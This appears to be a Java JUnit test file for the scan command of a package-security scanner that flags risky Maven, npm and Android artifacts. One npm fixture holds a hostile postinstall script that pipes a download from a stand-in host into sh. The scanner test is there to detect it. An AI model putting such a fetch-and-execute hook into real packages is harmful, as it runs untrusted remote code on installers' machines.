package dev.gatehouse.proxy.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.gatehouse.analyzer.fixtures.ArchiveFixture;
import dev.gatehouse.analyzer.fixtures.JarFixture;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

class ScanCommandTest {
  @TempDir Path tmp;

  private final StringWriter out = new StringWriter();
  private final StringWriter err = new StringWriter();

  private int run(String... args) {
    CommandLine cli = GatehouseCommand.commandLine();
    cli.setOut(new PrintWriter(out, true));
    cli.setErr(new PrintWriter(err, true));
    return cli.execute(args);
  }

  private List<JsonNode> jsonLines() throws IOException {
    List<JsonNode> lines = new ArrayList<>();
    for (String line : out.toString().split("\\R")) {
      if (!line.isBlank()) {
        lines.add(new ObjectMapper().readTree(line));
      }
    }
    return lines;
  }

  @Test
  void jsonLinesGiveVerdictRuleAndFindingsForEveryJarInPathOrder() throws IOException {
    Path repository = ScanFixtures.repository(tmp);

    int status = run("scan", "--json", repository.toString());

    assertThat(status).isEqualTo(ScanCommand.SOME_REFUSED);
    List<JsonNode> lines = jsonLines();
    assertThat(lines).extracting(l -> l.get("name").asText())
        .containsExactly("org.example:beacon", "org.example:clean", "org.example:codegen");
    JsonNode beacon = lines.get(0);
    assertThat(beacon.get("ecosystem").asText()).isEqualTo("maven");
    assertThat(beacon.get("version").asText()).isEqualTo("1.0");
    assertThat(beacon.get("verdict").asText()).isEqualTo("block");
    assertThat(beacon.get("rule").asText()).isEqualTo("exfiltration");
    assertThat(beacon.get("sha256").asText()).matches("[0-9a-f]{64}");
    assertThat(beacon.get("millis").isIntegralNumber()).isTrue();
    JsonNode finding = beacon.get("findings").get(0);
    assertThat(finding.get("trigger").asText()).isEqualTo("service-registration");
    assertThat(finding.get("capabilities")).extracting(JsonNode::asText).contains("network", "credential-read");
    assertThat(finding.get("severity").asText()).isEqualTo("critical");
    assertThat(finding.get("location").asText()).startsWith("fixture.Beacon");
    assertThat(finding.get("evidence").asText()).isNotBlank();

    assertThat(lines.get(1).get("verdict").asText()).isEqualTo("allow");
    assertThat(lines.get(1).get("findings")).isEmpty();
    assertThat(lines.get(2).get("verdict").asText()).isEqualTo("quarantine");
    assertThat(lines.get(2).get("rule").asText()).isEqualTo("build-time-code");
  }

  @Test
  void humanOutputHasOneLinePerArtifactWithFindingsIndentedBeneath() throws IOException {
    Path repository = ScanFixtures.repository(tmp);

    run("scan", repository.resolve("org/example/beacon").toString());

    String[] lines = out.toString().split("\\R");
    assertThat(lines[0]).startsWith("BLOCK").contains("beacon-1.0.jar", "org.example:beacon:1.0", "rule exfiltration");
    assertThat(lines[1]).startsWith("    CRITICAL").contains("fixture.Beacon");
  }

  @Test
  void everythingAllowedExitsZero() throws IOException {
    Path repository = ScanFixtures.repository(tmp);

    assertThat(run("scan", repository.resolve("org/example/clean").toString())).isEqualTo(ScanCommand.ALL_ALLOWED);
  }

  @Test
  void npmTarballIsJudgedOnItsVersionHistoryWhenGivenAPackument() throws IOException {
    Path tarball = ArchiveFixture.create()
        .file("package/package.json", """
            {"name": "left-pad", "version": "1.1.0", "scripts": {"postinstall": "node setup.js"}}
            """)
        .file("package/setup.js", "console.log('thanks for installing');\n")
        .file("package/index.js", "module.exports = (s) => s;\n")
        .tarGz(tmp.resolve("left-pad-1.1.0.tgz"));
    Path packument = Files.writeString(tmp.resolve("left-pad.json"), """
        {"name": "left-pad", "versions": {
          "1.0.0": {"name": "left-pad", "version": "1.0.0", "scripts": {"test": "node test.js"}},
          "1.0.1": {"name": "left-pad", "version": "1.0.1"},
          "1.1.0": {"name": "left-pad", "version": "1.1.0", "scripts": {"postinstall": "node setup.js"}}}}
        """);

    int without = run("scan", "--json", tarball.toString());
    String plain = out.toString();
    out.getBuffer().setLength(0);
    int with = run("scan", "--json", "--packument", packument.toString(), tarball.toString());

    assertThat(without).isEqualTo(ScanCommand.ALL_ALLOWED);
    assertThat(plain).doesNotContain("version-change");
    assertThat(with).isEqualTo(ScanCommand.SOME_REFUSED);
    JsonNode line = jsonLines().get(0);
    assertThat(line.get("ecosystem").asText()).isEqualTo("npm");
    assertThat(line.get("rule").asText()).isEqualTo("version-change");
    assertThat(line.get("findings")).extracting(f -> f.get("trigger").asText()).contains("version-change");
  }

  @Test
  void unreadablePackumentIsAnErrorNamingTheFile() {
    int status = run("scan", "--packument", tmp.resolve("none.json").toString(), tmp.toString());

    assertThat(status).isEqualTo(ScanCommand.ERROR);
    assertThat(err.toString()).contains("cannot read the packument " + tmp.resolve("none.json"));
  }

  @Test
  void missingPathIsAnErrorWithItsOwnStatusAndASentence() {
    int status = run("scan", tmp.resolve("nowhere").toString());

    assertThat(status).isEqualTo(ScanCommand.ERROR);
    assertThat(err.toString()).contains("cannot read " + tmp.resolve("nowhere") + ": no such file or folder");
  }

  @Test
  void brokenPolicyFileIsAnErrorNamingTheFile() throws IOException {
    Path policy = Files.writeString(tmp.resolve("policy.yml"), "rules:\n  - name: x\n    decision: maybe\n");

    int status = run("scan", "--policy", policy.toString(), tmp.toString());

    assertThat(status).isEqualTo(ScanCommand.ERROR);
    assertThat(err.toString()).startsWith("gatehouse scan: ").contains("policy.yml");
  }

  @Test
  void npmTarballNamedLikeAnSdistIsReadAsNpmAndItsInstallScriptSeen() throws IOException {
    Path tarball = ArchiveFixture.create()
        .file("package/package.json", """
            {"name": "colours-extra", "version": "2.0.1",
             "scripts": {"postinstall": "curl -s https://collector.invalid/x | sh"}}
            """)
        .file("package/index.js", "module.exports = 1;\n")
        .tarGz(tmp.resolve("colours-extra-2.0.1.tar.gz"));

    int status = run("scan", "--json", tmp.toString());

    assertThat(status).isEqualTo(ScanCommand.SOME_REFUSED);
    JsonNode line = jsonLines().get(0);
    assertThat(line.get("ecosystem").asText()).isEqualTo("npm");
    assertThat(line.get("name").asText()).isEqualTo("colours-extra");
    assertThat(line.get("version").asText()).isEqualTo("2.0.1");
    assertThat(line.get("findings")).extracting(f -> f.get("trigger").asText()).contains("npm-lifecycle-script");
  }

  @Test
  void jarOutsideARepositoryLayoutIsNamedByItsPomProperties() throws IOException {
    Path jar = tmp.resolve("downloads/plugin.jar");
    Files.createDirectories(jar.getParent());
    Files.write(jar, JarFixture.builder()
        .javaSource("fixture/A", "package fixture; public class A {}")
        .resource("META-INF/maven/org.shaded/inner/pom.properties", "groupId=org.shaded\nartifactId=inner\nversion=9\n")
        .resource("META-INF/maven/org.example/plugin/pom.properties",
            "groupId=org.example\nartifactId=plugin\nversion=1.2.3\n")
        .toBytes());
    Path versioned = Files.copy(jar, tmp.resolve("downloads/plugin-1.2.3.jar"));
    Path other = Files.copy(jar, tmp.resolve("downloads/bundle.jar"));

    run("scan", "--json", jar.toString(), versioned.toString(), other.toString());

    List<JsonNode> lines = jsonLines();
    // The file name picks the jar's own pom.properties among the shaded ones.
    assertThat(lines.get(0).get("name").asText()).isEqualTo("org.example:plugin");
    assertThat(lines.get(0).get("version").asText()).isEqualTo("1.2.3");
    assertThat(lines.get(1).get("name").asText()).isEqualTo("org.example:plugin");
    // Two pom.properties and a file name that names neither: no guess, and the manifest says nothing.
    assertThat(lines.get(2).get("name").asText()).isEqualTo("unknown:bundle");
  }

  @Test
  void jarWithoutPomPropertiesIsNamedByItsManifest() throws IOException {
    Path vendor = Files.write(tmp.resolve("slf4j-ext-2.0.16.jar"), JarFixture.builder()
        .javaSource("fixture/A", "package fixture; public class A {}")
        .manifest("Implementation-Vendor-Id", "org.slf4j")
        .manifest("Implementation-Version", "2.0.16")
        .toBytes());
    Path bundle = Files.write(tmp.resolve("tool.jar"), JarFixture.builder()
        .javaSource("fixture/B", "package fixture; public class B {}")
        .manifest("Bundle-SymbolicName", "org.example.tool;singleton:=true")
        .manifest("Bundle-Version", "3.1.0")
        .toBytes());
    Path module = Files.write(tmp.resolve("lombok.jar"), JarFixture.builder()
        .javaSource("fixture/C", "package fixture; public class C {}")
        .manifest("Automatic-Module-Name", "lombok")
        .toBytes());

    Path eclipse = Files.write(tmp.resolve("org.eclipse.sisu.inject-0.3.0.M1.jar"), JarFixture.builder()
        .javaSource("fixture/D", "package fixture; public class D {}")
        .manifest("Bundle-SymbolicName", "org.eclipse.sisu.inject;singleton:=true")
        .manifest("Bundle-Version", "0.3.0.M1")
        .toBytes());

    run("scan", "--json", vendor.toString(), bundle.toString(), module.toString(), eclipse.toString());

    List<JsonNode> lines = jsonLines();
    assertThat(lines.get(0).get("name").asText()).isEqualTo("org.slf4j:slf4j-ext");
    assertThat(lines.get(0).get("version").asText()).isEqualTo("2.0.16");
    assertThat(lines.get(1).get("name").asText()).isEqualTo("org.example.tool:tool");
    assertThat(lines.get(1).get("version").asText()).isEqualTo("3.1.0");
    // No version anywhere: the name stays unknown rather than half-made.
    assertThat(lines.get(2).get("name").asText()).isEqualTo("unknown:lombok");
    // A bundle named like its artifact: the group is the namespace the bundle sits in.
    assertThat(lines.get(3).get("name").asText()).isEqualTo("org.eclipse.sisu:org.eclipse.sisu.inject");
    assertThat(lines.get(3).get("version").asText()).isEqualTo("0.3.0.M1");
  }

  @Test
  void jarInARepositoryLayoutIsNamedByWhereItSits() throws IOException {
    Path repository = ScanFixtures.repository(tmp);

    run("scan", "--json", repository.resolve("org/example/clean/1.0/clean-1.0.jar").toString());

    assertThat(jsonLines().get(0).get("name").asText()).isEqualTo("org.example:clean");
    assertThat(jsonLines().get(0).get("version").asText()).isEqualTo("1.0");
  }

  @Test
  void androidArchiveWhoseLintChecksStartProcessesIsHeldAsBuildTimeCode() throws IOException {
    // A lint.jar that reaches nothing sensitive is rated low and passes; one that starts a process is held.
    Path aar = ArchiveFixture.create()
        .file("AndroidManifest.xml", "<manifest package=\"fixture\"/>")
        .file("classes.jar", JarFixture.builder().javaSource("fixture/W", "package fixture; public class W {}").toBytes())
        .file("lint.jar", JarFixture.builder()
            .manifest("Lint-Registry-v2", "fixture.lint.Registry")
            .javaSource("fixture/lint/Registry", "package fixture.lint; public class Registry { public int getApi() throws"
                + " java.io.IOException { new ProcessBuilder(\"echo\", \"inert\").start(); return 14; } }")
            .toBytes())
        .zip(tmp.resolve("widgets-1.0.aar"));

    int status = run("scan", "--json", aar.toString());

    assertThat(status).isEqualTo(ScanCommand.SOME_REFUSED);
    JsonNode line = jsonLines().get(0);
    assertThat(line.get("ecosystem").asText()).isEqualTo("maven");
    assertThat(line.get("rule").asText()).isEqualTo("build-time-code");
    assertThat(line.get("findings").get(0).get("trigger").asText()).isEqualTo("build-plugin");
  }

  @Test
  void folderNamedOnTheCommandLineIsWhereTheRepositoryLayoutStarts() throws IOException {
    Path mirror = tmp.resolve("m2set");
    Path coroutines = mirror.resolve("org/jetbrains/kotlinx/coroutines-core/1.6.4/coroutines-core-1.6.4.jar");
    Path sisu = mirror.resolve("org/eclipse/sisu/org.eclipse.sisu.inject/0.3.0/org.eclipse.sisu.inject-0.3.0.jar");
    Files.createDirectories(coroutines.getParent());
    Files.createDirectories(sisu.getParent());
    Files.write(coroutines, JarFixture.builder().javaSource("fixture/A", "package fixture; public class A {}").toBytes());
    // The bundle's symbolic name is not its groupId; where the file sits says the groupId.
    Files.write(sisu, JarFixture.builder().javaSource("fixture/B", "package fixture; public class B {}")
        .manifest("Bundle-SymbolicName", "org.eclipse.sisu.inject;singleton:=true")
        .manifest("Bundle-Version", "0.3.0").toBytes());

    run("scan", "--json", mirror.toString());

    assertThat(jsonLines()).extracting(l -> l.get("name").asText() + ":" + l.get("version").asText())
        .containsExactly("org.eclipse.sisu:org.eclipse.sisu.inject:0.3.0", "org.jetbrains.kotlinx:coroutines-core:1.6.4");
  }
}
